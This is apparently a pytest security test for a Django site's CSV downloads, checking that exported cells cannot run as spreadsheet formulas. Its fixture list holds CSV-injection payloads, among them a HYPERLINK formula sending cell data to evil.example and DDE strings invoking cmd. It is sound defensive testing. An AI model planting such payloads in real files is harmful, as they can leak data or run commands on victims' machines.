"""CSV formula probes: every CSV the site offers for download, with values that people (or
editors) typed starting with a formula character. A spreadsheet runs a cell starting with `=`,
`+`, `-` or `@` (some also after a tab or a carriage return) as a formula; no cell may start
that way, unless it is a plain number.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest

pytestmark = pytest.mark.django_db

FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
    "=1+1;=cmd",
)
# what shows that the values are in the file at all (neutralised, not dropped)
WITNESSES = ("HYPERLINK", "SUM(1,2)", "calc'!A0")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:[.,][0-9]+)?")


def live_formula_cells(text: str) -> list[str]:
    """Cells of the CSV `text` that a spreadsheet would run."""
    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if cell.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(cell)
    ]


@pytest.fixture(scope="module")
def exports(world, django_db_blocker):
    """Formula values in every field that reaches a CSV: case titles and summaries, members'
    names and organisations (workshop participants), PB project titles and the names of
    champions and civil servants (the ledger)."""
    from budgeting import factories as pb
    from budgeting.implementation.models import Implementation
    from budgeting.proposals.models import Project
    from cases.factories import CasePageFactory
    from network.factories import MemberFactory, UserFactory
    from stories.workshops.factories import WorkshopRegistrationFactory
    from tests.security.conftest import search_drain

    with django_db_blocker.unblock():
        for n, formula in enumerate(FORMULAS):
            CasePageFactory(
                parent=world.pages["cases"],
                title=formula,
                slug=f"formula-{n}",
                summary=formula,
            )
            member = MemberFactory(
                user=UserFactory(username=f"formula-{n}"),
                display_name=formula,
                organisation=formula,
            )
            WorkshopRegistrationFactory(workshop=world.pages["workshop"], member=member)
        search_drain()
        organiser = world.users["organiser"]
        process = pb.process_in_implementation(organiser=organiser, slug="probe-formulas")
        for n, implementation in enumerate(
            Implementation.objects.filter(project__process=process).select_related("champion")
        ):
            Project.objects.filter(pk=implementation.project_id).update(title=FORMULAS[n])
            champion = implementation.champion
            champion.first_name, champion.last_name = FORMULAS[n + 2], ""
            champion.save()
            servant = pb.UserFactory(
                username=f"formula-servant-{n}", first_name=FORMULAS[n + 4], last_name=""
            )
            implementation.civil_servants.add(servant)
    return {"process": process}


def _csv_files(response) -> dict[str, str]:
    if response["Content-Type"].startswith("application/zip"):
        with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
            return {
                name: archive.read(name).decode("utf-8-sig")
                for name in archive.namelist()
                if name.endswith(".csv")
            }
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return {"": body.decode("utf-8-sig")}


EXPORTS = {
    # name: (role, url)
    "cases": ("visitor", lambda w, e: w.pages["cases"].url + "export.csv"),
    "cases_filtered": ("visitor", lambda w, e: w.pages["cases"].url + "export.csv?q=SUM"),
    "workshop_participants": (
        "ambassador",
        lambda w, e: w.pages["workshop"].url + "participants/csv/",
    ),
    "pb_ledger": ("visitor", lambda w, e: f"/en/pb/{e['process'].slug}/ledger.csv"),
    "pb_open_data_zip": ("visitor", lambda w, e: f"/en/pb/{e['process'].slug}/open-data.zip"),
}


@pytest.mark.parametrize("export", list(EXPORTS))
def test_no_cell_is_a_live_formula(world, exports, export):
    role, url = EXPORTS[export]

    response = world.client(role).get(url(world, exports))

    assert response.status_code == 200, response.status_code
    files = _csv_files(response)
    assert files, "no CSV in the download"
    for name, text in files.items():
        assert any(witness in text for witness in WITNESSES), f"{name}: no probe value in it"
        live = live_formula_cells(text)
        assert not live, f"{export} {name}: {len(live)} live formula cells, e.g. {live[:3]}"


def test_the_check_finds_formulas():
    assert live_formula_cells('a,=1+1,"+A2",-3,"\tx"\n') == ["=1+1", "+A2", "\tx"]
    assert not live_formula_cells("'=1+1,-250.00,2025-06-01\n")
